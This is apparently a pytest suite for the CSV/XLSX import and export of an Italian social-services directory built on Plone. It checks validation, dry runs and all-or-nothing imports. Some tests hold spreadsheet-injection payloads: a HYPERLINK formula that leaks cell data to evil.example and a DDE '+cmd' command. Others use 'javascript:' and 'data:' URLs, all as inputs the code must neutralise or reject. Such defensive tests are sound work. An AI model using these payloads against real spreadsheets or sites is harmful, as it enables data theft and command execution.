"""Imports: every row checked like the edit form, then all rows or none."""

from famiguida.directory_io import importer
from famiguida.directory_io.columns import COLUMNS
from famiguida.directory_io.columns import Links
from famiguida.directory_io.export import cells_of
from famiguida.directory_io.export import export_file
from famiguida.directory_io.importer import apply_import
from famiguida.directory_io.importer import plan_import
from famiguida.directory_io.importer import RowError
from famiguida.directory_io.upload import Formula
from famiguida.directory_io.upload import read_table
from plone import api
from plone.app.testing import login

import pytest


MEDIATORE = "mediatore-culturale-servizi-sociali-cremasco"
SEGRETARIATO = "accoglienza-segretariato-sociale-cremasco"


def snapshot(folder, portal_type):
    """Every column value and the modification date of every item."""
    links = Links(folder)
    return {
        obj.getId(): (
            cells_of(obj, COLUMNS[portal_type], links),
            obj.modified(),
        )
        for obj in folder.contentValues({"portal_type": portal_type})
    }


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("portal_type", sorted(COLUMNS))
def test_round_trip_changes_nothing(folder_of, portal_type, file_format):
    folder = folder_of(portal_type)
    before = snapshot(folder, portal_type)
    data, _type, filename = export_file(folder, portal_type, file_format)
    report = apply_import(folder, portal_type, read_table(data, filename))
    assert report.errors == []
    assert report.applied
    assert (report.created, report.updated) == ([], [])
    assert sorted(report.unchanged) == sorted(before)
    assert snapshot(folder, portal_type) == before


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "title", ['=HYPERLINK("https://evil.example/?"&A1,"Clicca")', "+cmd|' /C calc'!A0"]
)
def test_formula_titles_survive_the_round_trip(folder_of, sheet, title, file_format):
    folder = folder_of("Service")
    folder[MEDIATORE].title = title
    data, _type, filename = export_file(folder, "Service", file_format)
    rows = read_table(data, filename)
    cells = [cell for row in rows for cell in row if str(cell).endswith(title)]
    # written as text behind an apostrophe, never as a formula
    assert cells == [f"'{title}"]
    assert not isinstance(cells[0], Formula)
    report = apply_import(folder, "Service", rows)
    assert report.updated == []
    assert folder[MEDIATORE].title == title


class TestPlan:
    @pytest.fixture(autouse=True)
    def _sheet(self, folder_of, sheet):
        self.folder = folder_of("Service")
        self.sheet = sheet("Service")

    def good_rows(self):
        """A new service and a changed one, both valid."""
        return [
            self.sheet.changed(MEDIATORE, id="nuovo-servizio", titolo="Nuovo"),
            self.sheet.changed(SEGRETARIATO, telefono="+39 0373 999999"),
        ]

    def test_plan_counts(self):
        report = plan_import(self.folder, "Service", self.sheet.rows(*self.good_rows()))
        assert report.errors == []
        assert report.created == ["nuovo-servizio"]
        assert report.updated == [SEGRETARIATO]
        assert report.rows[1].changed == ("telefono",)

    def test_dry_run_writes_nothing(self):
        before = snapshot(self.folder, "Service")
        report = apply_import(
            self.folder, "Service", self.sheet.rows(*self.good_rows()), dry_run=True
        )
        assert not report.applied
        assert report.created == ["nuovo-servizio"]
        assert "nuovo-servizio" not in self.folder
        assert not api.content.find(id="nuovo-servizio")
        assert snapshot(self.folder, "Service") == before
        assert self.folder.unrestrictedTraverse(SEGRETARIATO).phone != (
            "+39 0373 999999"
        )

    def test_import_creates_and_updates(self):
        report = apply_import(
            self.folder, "Service", self.sheet.rows(*self.good_rows())
        )
        assert report.applied
        new = self.folder["nuovo-servizio"]
        assert new.title == "Nuovo"
        assert new.provider.to_object == self.folder.aq_parent["enti"]["krikos"]
        assert [r.to_object.getId() for r in new.locations] == ["krikos-crema"]
        assert new.Language() == "it"
        assert api.content.get_state(new) != "published"
        assert api.content.find(UID=new.UID(), Title="Nuovo")
        # the relation catalog knows it: back-references work
        providers = api.relation.get(source=new, relationship="provider")
        assert [r.to_object.getId() for r in providers] == ["krikos"]
        assert self.folder[SEGRETARIATO].phone == "+39 0373 999999"

    def test_a_file_with_only_some_columns_updates_only_those(self):
        rows = [["id", "telefono"], [SEGRETARIATO, "0373 111222"]]
        report = apply_import(self.folder, "Service", rows)
        assert report.updated == [SEGRETARIATO]
        service = self.folder[SEGRETARIATO]
        assert service.phone == "0373 111222"
        assert service.need_categories == ["social", "documents"]

    def test_one_bad_row_imports_nothing(self):
        bad = self.sheet.changed(MEDIATORE, id="altro-nuovo", email="non-una-email")
        before = snapshot(self.folder, "Service")
        report = apply_import(
            self.folder, "Service", self.sheet.rows(*self.good_rows(), bad)
        )
        assert not report.applied
        assert report.errors == [
            RowError(
                4, "email", "Indirizzo e-mail non valido, ad esempio nome@example.org."
            )
        ]
        assert "nuovo-servizio" not in self.folder
        assert snapshot(self.folder, "Service") == before

    def test_exception_mid_import_leaves_nothing(self, monkeypatch):
        created = []
        real_create = importer.create_item

        def create_then_fail(container, portal_type, row, request):
            if created:
                raise RuntimeError("disk full")
            created.append(real_create(container, portal_type, row, request))

        monkeypatch.setattr(importer, "create_item", create_then_fail)
        rows = self.sheet.rows(
            self.sheet.changed(SEGRETARIATO, titolo="Titolo cambiato"),
            self.sheet.changed(MEDIATORE, id="primo-nuovo"),
            self.sheet.changed(MEDIATORE, id="secondo-nuovo"),
        )
        with pytest.raises(RuntimeError, match="disk full"):
            apply_import(self.folder, "Service", rows)
        assert created  # the first item was written before the failure
        assert "primo-nuovo" not in self.folder
        assert not api.content.find(id="primo-nuovo")
        assert self.folder[SEGRETARIATO].title != "Titolo cambiato"
        assert not api.content.find(Title="Titolo cambiato")

    def test_creating_needs_the_add_permission(self, editor):
        api.user.create(
            email="ed2@example.org", username="correttrice", password="pw-12345678"
        )
        api.user.grant_roles(username="correttrice", obj=self.folder, roles=["Editor"])
        login(editor, "correttrice")
        report = plan_import(self.folder, "Service", self.sheet.rows(*self.good_rows()))
        assert [(e.line, e.column) for e in report.errors] == [(2, "id")]
        assert "Non puoi creare un servizio" in report.errors[0].message
        assert report.updated == [SEGRETARIATO]


# column, cell, what the Italian message says
BAD_CELLS = [
    ("telefono", "12", "6-15 cifre"),
    ("telefono", "chiamare la mattina", "6-15 cifre"),
    ("email", "info@", "e-mail non valido"),
    ("sito_web", "javascript:alert(1)", "https://"),
    ("sito_web", "data:text/html,x", "https://"),
    ("bisogni", "housing; casa", "Valore sconosciuto «casa»"),
    ("costo", "gratis", "Valore sconosciuto «gratis»"),
    ("comuni", "crema; gotham", "Valore sconosciuto «gotham»"),
    ("orari_settimanali", "lun 09:00-12:00\nlun 11:00-13:00", "si sovrappone"),
    ("orari_settimanali", "lun 14:00-13:00", "Riga 1 della cella"),
    ("orari_speciali", "domani chiuso", "Riga 1 della cella"),
    ("ente", "enti/non-esiste", "Nessun ente a questo indirizzo"),
    ("ente", "sedi/krikos-crema", "non è un ente"),
    ("sedi", "sedi/krikos-crema; sedi/sparita", "Nessuna sede a questo indirizzo"),
    ("titolo", "", "Campo obbligatorio"),
    ("bisogni", "", "Campo obbligatorio"),
    ("titolo", "Due\nrighe", "una sola riga"),
    ("ultima_verifica", "15/09/2026", "AAAA-MM-GG"),
    ("attivo", "forse", "«sì» o «no»"),
]


@pytest.mark.parametrize("new", [False, True], ids=["update", "create"])
@pytest.mark.parametrize("column,cell,message", BAD_CELLS)
def test_bad_cell_named_by_line_and_column(
    folder_of, sheet, column, cell, message, new
):
    table = sheet("Service")
    good = table.changed(SEGRETARIATO, titolo="Un titolo nuovo")
    bad = table.changed(MEDIATORE, **{column: cell, **({"id": "nuovo"} if new else {})})
    report = plan_import(folder_of("Service"), "Service", table.rows(good, bad))
    assert [(e.line, e.column) for e in report.errors] == [(3, column)]
    assert message in report.errors[0].message


def test_service_area_invariant_points_at_districts(folder_of, sheet):
    table = sheet("Service")
    row = table.changed(MEDIATORE, ambiti="", comuni="")
    report = plan_import(folder_of("Service"), "Service", table.rows(row))
    assert report.errors == [
        RowError(2, "ambiti", "Indica almeno un Ambito o un Comune servito.")
    ]


@pytest.mark.parametrize(
    "latitude,longitude,column,message",
    [
        ("45.1", "", "latitudine", "sia la latitudine sia la longitudine"),
        ("91", "9.6", "latitudine", "al massimo 90"),
        ("45.1", "est", "longitudine", "Numero non valido"),
    ],
)
def test_location_coordinates(folder_of, sheet, latitude, longitude, column, message):
    table = sheet("Location")
    row = table.changed("csc-crema", latitudine=latitude, longitudine=longitude)
    report = plan_import(folder_of("Location"), "Location", table.rows(row))
    assert [(e.line, e.column) for e in report.errors] == [(2, column)]
    assert message in report.errors[0].message


def test_every_error_of_every_row_is_reported(folder_of, sheet):
    table = sheet("Service")
    rows = table.rows(
        table.changed(MEDIATORE, telefono="12", email="x@", costo="boh"),
        table.changed(SEGRETARIATO, sito_web="javascript:x"),
    )
    report = plan_import(folder_of("Service"), "Service", rows)
    assert [(e.line, e.column) for e in report.errors] == [
        (2, "costo"),
        (2, "telefono"),
        (2, "email"),
        (3, "sito_web"),
    ]


@pytest.mark.parametrize(
    "rows,errors",
    [
        (
            [["id", "titolo"], [SEGRETARIATO, "Uno"], [SEGRETARIATO, "Due"]],
            [(3, "id", f"Id ripetuto: «{SEGRETARIATO}» è già alla riga 2.")],
        ),
        (
            [["id", "titolo", "colore"], [SEGRETARIATO, "Titolo", "blu"]],
            [(1, "colore", "Colonna sconosciuta")],
        ),
        (
            [["id", "titolo", "title"], [SEGRETARIATO, "A", "B"]],
            [(1, "title", "Colonna ripetuta: c'è già nella colonna B.")],
        ),
        ([["titolo"], ["Senza id"]], [(1, "id", "Manca la colonna «id»")]),
        ([["id", "titolo"], ["", "Senza id"]], [(2, "id", "Manca l'id")]),
        ([["id", "titolo"], ["Con Spazi", "X"]], [(2, "id", "Id non valido")]),
        # a Service file loaded into the folder of locations
        ([["id", "titolo"], ["krikos-crema", "X"]], [(2, "id", "di un altro tipo")]),
        ([["id", "titolo"], [SEGRETARIATO, "X", "fuori"]], [(2, "C", "senza nome")]),
        ([], [(1, "", "Manca la riga 1")]),
    ],
)
def test_file_level_errors(folder_of, rows, errors):
    other_type = rows and rows[-1][0] == "krikos-crema"
    folder = folder_of("Location" if other_type else "Service")
    report = plan_import(folder, "Service", rows)
    assert [(e.line, e.column) for e in report.errors] == [e[:2] for e in errors]
    for error, (_line, _column, message) in zip(report.errors, errors, strict=True):
        assert message in error.message


def test_blank_rows_are_skipped_but_counted(folder_of):
    rows = [["id", "telefono"], ["", ""], [SEGRETARIATO, "12"]]
    report = plan_import(folder_of("Service"), "Service", rows)
    assert [(e.line, e.column) for e in report.errors] == [(3, "telefono")]


def test_formula_cell_refused(folder_of):
    rows = [["id", "titolo"], [SEGRETARIATO, Formula("=A1")]]
    report = plan_import(folder_of("Service"), "Service", rows)
    assert [(e.line, e.column) for e in report.errors] == [(2, "titolo")]
    assert "formula" in report.errors[0].message
